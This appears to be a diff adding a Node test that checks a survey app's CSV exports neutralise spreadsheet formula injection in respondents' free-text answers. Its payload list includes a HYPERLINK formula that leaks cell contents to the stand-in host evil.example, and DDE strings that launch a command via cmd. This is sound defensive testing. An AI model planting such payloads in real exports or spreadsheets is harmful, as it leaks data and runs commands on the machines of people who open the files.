@@ -1,0 +1,52 @@
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { writeExport } from '../../server/exports/exports.service.ts';
+import { createTestApp, seedMiniStudies, startSession, submitAnswers, type TestApp } from '../helpers/app.ts';
+import { collector } from '../exports/helpers.ts';
+import { parseCsv } from '../exports/read-csv.ts';
+
+/**
+ * A respondent's free text that a spreadsheet would run as a formula reaches the exports as text:
+ * every cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is neutralised.
+ */
+
+const payloads = [
+  '=HYPERLINK("https://evil.example/?leak="&A1,"klik")',
+  '+1+cmd|\' /C calc\'!A0',
+  '-2+3',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '\t=1+1',
+  '\r=1+1',
+  '=1;=2,"=3"',
+];
+
+describe('CSV formula injection in exports', () => {
+  let t: TestApp;
+  before(async () => {
+    t = await createTestApp();
+    const panel = seedMiniStudies(t.services, payloads.length);
+    for (const [i, text] of payloads.entries()) {
+      const session = (await startSession(t.app, { token: panel.tokens[i] })).body;
+      const saved = await submitAnswers(t.app, session, { pageNo: 2, complete: true, answers: { consent: true, health: 5, remarks: text } });
+      assert.equal(saved.status, 200, JSON.stringify(saved.body));
+    }
+  });
+  after(() => t.close());
+
+  for (const format of ['long', 'wide'] as const) {
+    for (const excelNl of [false, true]) {
+      it(`neutralises formulas in the ${format} CSV${excelNl ? ' for Excel in Dutch' : ''}`, async () => {
+        const sink = collector();
+        await writeExport({ db: t.services.db, surveys: t.services.surveys, studyId: 'mini-panel', format, excelNl, out: sink.out, userId: null, via: 'cli' });
+        const rows = parseCsv(sink.text().replace(/^\uFEFF/, ''), excelNl ? ';' : ',');
+        assert.equal(rows.length, payloads.length);
+        const remarksColumn = Object.keys(rows[0]!).find((name) => /(^|_)remarks$/.test(name));
+        assert.ok(remarksColumn, 'the free text is exported');
+        const exported = rows.map((row) => row[remarksColumn]!).sort();
+        for (const cell of exported) assert.ok(!/^[=+\-@\t\r]/.test(cell), `a cell starts like a formula: ${JSON.stringify(cell)}`);
+        for (const row of rows) for (const [name, cell] of Object.entries(row)) assert.ok(!/^[=+@\t\r]/.test(cell), `${name} starts like a formula: ${JSON.stringify(cell)}`);
+        for (const text of payloads.filter((p) => /^[=+\-@\t]/.test(p))) assert.ok(exported.includes(`'${text}`), `kept as text behind an apostrophe: ${JSON.stringify(text)}`);
+      });
+    }
+  }
+});
